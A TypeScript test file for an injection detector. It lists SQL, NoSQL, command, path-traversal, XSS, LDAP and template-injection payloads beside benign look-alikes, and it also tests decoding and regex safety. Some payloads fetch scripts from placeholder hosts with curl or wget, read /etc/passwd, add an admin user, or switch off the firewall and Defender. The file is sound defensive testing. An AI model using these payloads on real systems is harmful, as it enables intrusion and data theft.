// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal template syntax
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { decodedForms, htmlEntityDecode, percentDecode } from './decode.ts';
import { compileDetector, type InjectionClass } from './engine.ts';

const p1 = compileDetector({ paranoia: 1 });
const p3 = compileDetector({ paranoia: 3 });

const cases: Record<InjectionClass, { attacks: string[]; benign: string[] }> = {
  sqli: {
    attacks: [
      "' or 1=1--",
      "admin'--",
      "1' AND '1'='1",
      '1 union select username,password from users',
      "-1' UniOn/**/SeLeCt 1,@@version,3-- -",
      '1/*!50000union*/ /*!50000select*/ 1,2',
      "'; drop table users--",
      '1 and sleep(5)',
      "1' waitfor delay '0:0:5'--",
      "') or ('a'='a",
      '1)) or ((1=1',
      "x' and extractvalue(1,concat(0x7e,version()))#",
      '%27%20or%201%3D1--',
    ],
    benign: [
      'select the best option from the menu',
      'drop me a line',
      "O'Brien",
      "it's 5 o'clock; select one from below",
      'Union Station, platform 3',
      'null and void (see page 4)',
      '1 < 2 and 3 > 2',
      'Drop table tennis practice today',
      'I need sleep (8 hours)',
    ],
  },
  nosqli: {
    attacks: [
      '{"$ne": null}',
      '[$ne]=1',
      '{"$where": "this.a == 1"}',
      "'; return true; var x='",
      'this.password.match(/^a/)',
      'db.users.find()',
    ],
    benign: [
      '$5 off',
      'Use $HOME/bin',
      '$regex is a Mongo operator',
      '{"$schema": "x"}',
      'this is fine',
      'Return policy: 30 days',
    ],
  },
  cmdi: {
    attacks: [
      '; cat /etc/passwd',
      '| id',
      '127.0.0.1 && whoami',
      '`id`',
      '$(sleep 5)',
      ";c''at${IFS}/etc/passwd",
      'x\nwget http://e.example/s',
      '&& type C:\\Windows\\win.ini',
      ';{cat,/etc/passwd}',
    ],
    benign: [
      'Tom & Jerry',
      'cats; dogs',
      'Run `ls -la` to list files',
      'Meeting 3; exec summary attached',
      'R&D | Sales',
      'cat food; fish',
    ],
  },
  'path-traversal': {
    attacks: [
      '../../../etc/passwd',
      '..%2f..%2f..%2fetc%2fpasswd',
      '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
      '....//....//etc/passwd',
      '..\\..\\..\\windows\\win.ini',
      '/etc/shadow',
      'file:///etc/passwd',
      'php://filter/convert.base64-encode/resource=index.php',
    ],
    benign: [
      '../README.md',
      'docs/guide/install.md',
      'Wait... what?',
      "import x from '../lib/x.js'",
      'Edit /etc/hosts to map names',
      'C:\\Users\\alice\\todo.txt',
    ],
  },
  xss: {
    attacks: [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      'javascript:alert(1)',
      '" onmouseover="alert(1)',
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      "';alert(1)//",
      '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    ],
    benign: [
      '1 < 2',
      'a <b> c',
      '<p>Hello</p>',
      'List<String>',
      'JavaScript: The Good Parts',
      'Use the <script> tag to include JavaScript',
      '<img src="cat.png" alt="cat">',
      'Alice <alice@example.com>',
    ],
  },
  ldap: {
    attacks: ['*)(uid=*))(|(uid=*', 'admin)(&)', '*)(|(objectClass=*)', 'admin*))', 'x)(|(cn=*)'],
    benign: ['smile :)(', 'f(x)(y)', 'Call (555) 123-4567', '*) see note', 'cn=John Smith,ou=People'],
  },
  ssti: {
    attacks: [
      '{{7*7}}',
      '${7*7}',
      '<%= 7*7 %>',
      "{{''.__class__.__mro__}}",
      '${T(java.lang.Runtime).getRuntime()}',
      '{{config.items()}}',
      '${jndi:ldap://x/a}',
      '#{7*7}',
    ],
    benign: [
      'Hello {{name}}',
      '${HOME}/bin',
      '<%= user.name %>',
      '{% if user %}Hi{% endif %}',
      'Price: ${price}',
      '7*7 = 49',
    ],
  },
};

for (const [cls, { attacks, benign }] of Object.entries(cases) as Array<
  [InjectionClass, (typeof cases)['sqli']]
>) {
  describe(`${cls} detection at paranoia 1`, () => {
    for (const a of attacks) {
      test(`flags ${JSON.stringify(a)}`, () => assert.equal(p1.scanValue(a), cls));
    }
    for (const b of benign) {
      test(`passes ${JSON.stringify(b)}`, () => assert.equal(p1.scanValue(b), undefined));
    }
  });
}

/**
 * Shapes that public payload lists showed level 1 missing (see docs/injection.md, "Measured on public lists"),
 * each written here in our own words with a look-alike that must pass. Every attack must also be flagged at
 * levels 2 and 3 (by some class: the label is the first class that matches).
 */
const gaps: Array<{ rule: string; cls: InjectionClass; attacks: string[]; benign: string[] }> = [
  {
    rule: 'a boolean after a closed quote or number, then a tautology without a literal comparison',
    cls: 'sqli',
    attacks: [
      "') or ('k')=('k",
      '") or ("k")=("k',
      ") or ('q'='q",
      ') or (b=b',
      '7 or uid=uid',
      "9 or 'abc' in ('abc')",
      "5' or 'z' in ('z')-- ",
      '3 or 4 between 2 and 8',
      '2 or login like char(37,37)',
      '8 or isnull(1/0)#',
      'anything or col=col--',
    ],
    benign: [
      'select the best from the menu',
      '1 or 2 items',
      'between 9 and 5',
      'Open 1 or 2 items between 9 and 5 daily',
      "O'Brien or O'Neil",
      "He said 'yes' or 'no' in (brackets)",
      'one or more like this',
      '=IF(A1=1,"yes","no")',
    ],
  },
  {
    rule: 'HAVING and CASE WHEN conditions and branches on two literals',
    cls: 'sqli',
    attacks: [
      '4 having 3=3',
      '4 group by owner having 2=2--',
      '(case when 77=77 then 1 else null end)',
      'iif(12=12,1,1/0)',
      'elt(31=31,7)',
      'make_set(5=5,2)',
      '(61=61)*62',
      "k'exec master..xp_dirtree '\\\\h\\s'--",
    ],
    benign: [
      'group by team having fun',
      'Kids having 2 or 3 snacks',
      'In case you forgot, 2=2 still holds',
      '=IF(B2>100,"High","Low")',
      '(2+2)*3 = 12',
      "It's the exec summary: 'dir' means direction",
    ],
  },
  {
    rule: 'a lone & opening the value, fetch commands with a URL, Windows admin verbs, Shellshock',
    cls: 'cmdi',
    attacks: [
      '& curl https://h.example/x.sh',
      'q & wget http://h.example/y',
      '& sleep 9',
      '& net localgroup admins eve /add',
      '& netsh advfirewall set allprofiles state off',
      '& type C:\\boot.ini',
      '| reg query HKLM\\Software\\Foo',
      '; sc stop WinDefend',
      '() { :;}; echo shellshock test',
    ],
    benign: [
      'Tom & Jerry',
      'rock & roll',
      'Java & Python developers wanted',
      '& more',
      '& sleep well',
      'Remove the reg add step from the guide',
      '() => { return 1; }',
      'Press & hold; sleep mode',
    ],
  },
  {
    rule: 'attribute breakouts glued to the quote and handlers of any name given code',
    cls: 'xss',
    attacks: [
      '"onpointerenter=alert(7)//',
      "'onanimationstart=prompt`1`><b x='",
      '"autofocus/onfocusin=confirm(2)//',
      '<b onorientationchange=alert(3)>',
      '<p onhelp=top.print()>',
    ],
    benign: [
      '"online=true"',
      "'onboarding=done'",
      'Set "onclick=handler" in the markup',
      'data-on="click"',
      '"once=twice"',
    ],
  },
  {
    rule: '$where JavaScript: return in parentheses, clock busy loops, required modules',
    cls: 'nosqli',
    attacks: [
      "';return(true);var k='x",
      'var t=new Date();do{var u=new Date();}while(u-t<3000)',
      '1;var s=Date.now();while(Date.now()-s<2000){}',
      "require('child_process').execSync('id')",
    ],
    benign: [
      'Shipping; return (see policy) within 30 days',
      "const fs = require('fs'); fs.readFileSync(p)",
      'Created: new Date(2020, 1, 1)',
    ],
  },
  {
    rule: 'FreeMarker square brackets, engine objects in blocks, dotted walks to secrets',
    cls: 'ssti',
    attacks: [
      '[=6*6]',
      '[="freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id")]',
      '{% for k, v in settings.items() %}{{ k }}{% endfor %}',
      '{{ form.instance.owner.password }}',
      '{{ u.profile.password }}',
    ],
    benign: [
      'See [=] and [=x]',
      'x[=y]',
      '{{ password }}',
      'Hello {{ order.items.0.name }}',
      '{% for i in cart %}{{ i }}{% endfor %}',
    ],
  },
  {
    rule: 'absolute paths into system directories and server logs',
    cls: 'path-traversal',
    attacks: [
      '/etc/exports',
      '/boot/loader.conf',
      '/root/notes.txt',
      'd:\\nginx\\logs\\access.log',
      'c:\\xampp\\apache\\logs\\access.log',
      '/.netrc',
      '../logs/error_log',
    ],
    benign: [
      '/etc is where configs live',
      '/etc/',
      'C:\\Users\\me\\Documents\\report.xml',
      '/var/www/html/index.html',
      '/api/v1/logs/latest',
    ],
  },
  {
    rule: 'a combinator glued to an assertion after a closed filter',
    cls: 'ldap',
    attacks: ['bob*)((|mail=*)', 'ann)(|uid=ann'],
    benign: ['Smith (Jr.)(|see notes)', '(a)(|b)', 'f(x)(&y)'],
  },
];

const p2 = compileDetector({ paranoia: 2 });
for (const gap of gaps) {
  describe(`${gap.cls}: ${gap.rule}`, () => {
    for (const a of gap.attacks) {
      test(`flags ${JSON.stringify(a)} at paranoia 1, and at 2 and 3`, () => {
        assert.equal(p1.scanValue(a), gap.cls);
        assert.notEqual(p2.scanValue(a), undefined);
        assert.notEqual(p3.scanValue(a), undefined);
      });
    }
    for (const b of gap.benign) {
      test(`passes ${JSON.stringify(b)} at paranoia 1`, () => assert.equal(p1.scanValue(b), undefined));
    }
  });
}

describe('detector options', () => {
  test('a detector limited to some classes ignores the others', () => {
    const onlySql = compileDetector({ paranoia: 1, classes: ['sqli'] });
    assert.equal(onlySql.scanValue('<script>alert(1)</script>'), undefined);
    assert.equal(onlySql.scanValue("' or 1=1--"), 'sqli');
  });
  test('a per-call class filter narrows the detector', () => {
    assert.equal(p1.scanValue('<svg onload=alert(1)>', new Set(['sqli'])), undefined);
  });
  test('keys are checked for Mongo operators', () => {
    assert.equal(p1.scanKey('$where'), 'nosqli');
    assert.equal(p1.scanKey('password[$ne]'), 'nosqli');
    assert.equal(p1.scanKey('$schema'), undefined);
    assert.equal(p1.scanKey('price'), undefined);
  });
  test('SQL keywords between letters and spaces only are found in any case and beside non-ASCII text', () => {
    // Nothing but the keywords themselves lets these values past the paranoia 1 pre-check.
    assert.equal(p1.scanValue('1 UnIoN SeLeCt username FROM users'), 'sqli');
    assert.equal(p1.scanValue('1 union select username from users über'), 'sqli');
    assert.equal(p1.scanValue('über 1 union select username from users'), 'sqli');
    assert.equal(p1.scanValue('x union\tselect 2'), 'sqli');
    assert.equal(p1.scanValue('Union Station, platform 3 über'), undefined);
  });
  test('higher paranoia flags more ambiguous input', () => {
    assert.equal(p1.scanValue('alert(document.cookie)'), undefined);
    assert.equal(p3.scanValue('alert(document.cookie)'), 'xss');
  });
});

describe('decoding', () => {
  test('percent-decodes overlong UTF-8 dots and slashes to ASCII', () => {
    assert.equal(percentDecode('%c0%ae%c0%ae%c0%af'), '../');
    assert.equal(percentDecode('%e0%80%ae'), '.');
  });
  test('keeps invalid escapes and drops NUL', () => {
    assert.equal(percentDecode('100%zz%00x'), '100%zzx');
  });
  test('decodes numeric references without semicolons and named ones', () => {
    assert.equal(htmlEntityDecode('&#x3c;a&#62&lt;&colon;'), '<a><:');
  });
  test('double encoding is undone once more than the transport did', () => {
    assert.deepEqual(decodedForms('%252e%252e%252f'), ['%252e%252e%252f', '../']);
  });
});

describe('pathological input', () => {
  const big = (unit: string) => unit.repeat(Math.ceil(100_000 / unit.length));
  for (const [name, input] of [
    ['100 KB of quotes', big("'")],
    ['100 KB of opening parentheses', big('(')],
    ['100 KB of nested brackets', big('[{(<')],
    ['100 KB of tag openers', big('<a ')],
    ['100 KB of template openers', big('{{')],
    ['100 KB of separators', big(';|&`$(')],
    ['100 KB of dots and slashes', big('../')],
    ['100 KB of percent escapes', big('%25')],
    ['100 KB of SQL keywords', big(' or 1=1 union select')],
    ['100 KB of LDAP fragments', big(')(')],
    ['100 KB of unclosed comments', big('a /* ')],
    ['100 KB of entities', big('&lt;')],
    ['100 KB of attribute openers', big('<a b="')],
    ['100 KB of dunder walks', big('{{${__')],
  ] as const) {
    test(`scans ${name} to completion at every paranoia level`, () => {
      for (const p of [1, 2, 3] as const) {
        const result = compileDetector({ paranoia: p }).scanValue(input);
        assert.ok(result === undefined || typeof result === 'string');
      }
    });
  }
});

describe('no backtracking constructs', () => {
  // Every regular expression literal in the engine: none may nest quantifiers (`(a+)+`, `(a*b?)*`) or
  // quantify an alternation whose branches overlap, the shapes behind catastrophic backtracking.
  const dir = import.meta.dirname;
  const sources = readdirSync(dir).filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts'));
  const literal = /\/((?:\\.|\[(?:\\.|[^\]\\\n])*\]|[^/\\\n[])+)\/[dgimsuvy]*(?=[.,;)\s]|$)/g;
  test('the engine sources were found', () => assert.ok(sources.length >= 8));
  test('the check recognises nested quantifiers and accepts flat ones', () => {
    assert.equal(hasNestedQuantifier('(a+)+'), true);
    assert.equal(hasNestedQuantifier('^(\\w*x)*$'), true);
    assert.equal(hasNestedQuantifier('(?:ab|cd)+'), false);
    assert.equal(hasNestedQuantifier('^\\s*[\\w$.]+\\s*$'), false);
  });
  for (const file of sources) {
    test(`${file} has no regex with a quantified group that contains a quantifier`, () => {
      const text = readFileSync(join(dir, file), 'utf8');
      for (const line of text.split('\n')) {
        if (line.trimStart().startsWith('//') || line.trimStart().startsWith('*')) continue;
        for (const m of line.matchAll(literal)) {
          const body = m[1];
          if (!/[+*?{]/.test(body)) continue;
          assert.equal(hasNestedQuantifier(body), false, `${file}: /${body}/`);
        }
      }
    });
  }
});

/** Whether a regex source has a group that is quantified and contains a quantifier itself. */
function hasNestedQuantifier(source: string): boolean {
  const stack: boolean[] = [];
  let inClass = false;
  for (let i = 0; i < source.length; i++) {
    const c = source[i];
    if (c === '\\') {
      i++;
      continue;
    }
    if (inClass) {
      if (c === ']') inClass = false;
      continue;
    }
    if (c === '[') inClass = true;
    else if (c === '(') stack.push(false);
    else if (c === ')') {
      const inner = stack.pop() ?? false;
      const next = source[i + 1];
      const quantified = next === '+' || next === '*' || next === '{' || next === '?';
      if (inner && quantified && next !== '?') return true;
      if (stack.length > 0 && (inner || quantified)) stack[stack.length - 1] = true;
    } else if ((c === '+' || c === '*' || c === '{') && stack.length > 0) stack[stack.length - 1] = true;
  }
  return false;
}
